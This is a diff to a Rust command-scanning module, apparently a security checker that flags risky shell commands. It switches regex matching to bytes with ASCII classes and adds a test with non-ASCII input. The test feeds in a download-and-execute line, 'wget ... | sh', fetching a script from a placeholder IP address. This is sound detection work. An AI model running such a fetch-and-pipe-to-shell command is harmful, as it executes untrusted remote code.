@@ -9,7 +9,7 @@
 
 use base64::Engine as _;
 use jobwarden_model::Severity;
-use regex::{Regex, RegexSet};
+use regex::Regex;
 use std::sync::{LazyLock, OnceLock};
 
 /// One thing found in a command text.
@@ -343,23 +343,33 @@ static PATTERNS: &[Pattern] = &[
     ),
 ];
 
+/// The patterns, matched on the text's bytes with ASCII classes: `\b`, `\s`, `\w` and `(?i)`
+/// as the shell reads them (shell syntax is ASCII; a non-ASCII letter next to a word only adds
+/// a boundary, so it can add matches, never lose one). Unicode classes made the set cost about
+/// 18 ms to compile at every start; ASCII ones cost under 1 ms.
 struct Compiled {
-    set: RegexSet,
-    /// Each pattern alone, to locate its snippet; compiled the first time the set reports it,
-    /// since compiling them all up front costs as much as the set (tens of milliseconds at
-    /// every start, for patterns most runs never see match).
-    each: Vec<OnceLock<Regex>>,
+    set: regex::bytes::RegexSet,
+    /// Each pattern alone, to locate its snippet; compiled the first time the set reports it.
+    each: Vec<OnceLock<regex::bytes::Regex>>,
 }
 
 impl Compiled {
-    fn each(&self, index: usize) -> Option<&Regex> {
+    fn each(&self, index: usize) -> Option<&regex::bytes::Regex> {
         let pattern = PATTERNS.get(index)?;
-        Some(self.each.get(index)?.get_or_init(|| re(pattern.regex)))
+        Some(self.each.get(index)?.get_or_init(|| {
+            // Checked by the `all_patterns_compile` test.
+            regex::bytes::RegexBuilder::new(pattern.regex)
+                .unicode(false)
+                .build()
+                .unwrap_or_else(|e| panic!("bad built-in pattern {}: {e}", pattern.regex))
+        }))
     }
 }
 
 static COMPILED: LazyLock<Compiled> = LazyLock::new(|| Compiled {
-    set: RegexSet::new(PATTERNS.iter().map(|p| p.regex))
+    set: regex::bytes::RegexSetBuilder::new(PATTERNS.iter().map(|p| p.regex))
+        .unicode(false)
+        .build()
         .unwrap_or_else(|e| panic!("bad built-in pattern set: {e}")),
     each: PATTERNS.iter().map(|_| OnceLock::new()).collect(),
 });
@@ -521,12 +531,12 @@ fn scan_into(
     };
 
     let compiled = &*COMPILED;
-    for index in compiled.set.matches(text).iter() {
+    for index in compiled.set.matches(text.as_bytes()).iter() {
         let (Some(p), Some(r)) = (PATTERNS.get(index), compiled.each(index)) else {
             continue;
         };
         let snippet = r
-            .find(text)
+            .find(text.as_bytes())
             .map_or("", |m| around(text, m.start(), m.end()));
         push(result, hit(p.check, p.severity, p.what, snippet));
     }
@@ -1065,6 +1075,22 @@ mod tests {
 
     fn max_severity(text: &str) -> Option<Severity> {
         checks(text).iter().map(|(_, s)| *s).max()
+    }
+
+    #[test]
+    fn non_ascii_text_around_a_match_keeps_whole_characters() {
+        // The patterns run on bytes: a match next to multi-byte characters must still give a
+        // snippet cut at character boundaries.
+        let text =
+            "\u{e9}\u{e9}\u{e9} wget -q -O- http://198.51.100.7/\u{e9}x.sh | sh \u{1F600}\u{1F600}";
+        let ctx = ScanContext::default();
+        let result = scan(text, &ctx);
+        let hit = result
+            .hits
+            .iter()
+            .find(|h| h.check == DOWNLOAD_EXEC)
+            .expect("download and execute found");
+        assert!(hit.snippet.contains("wget"));
     }
 
     #[test]
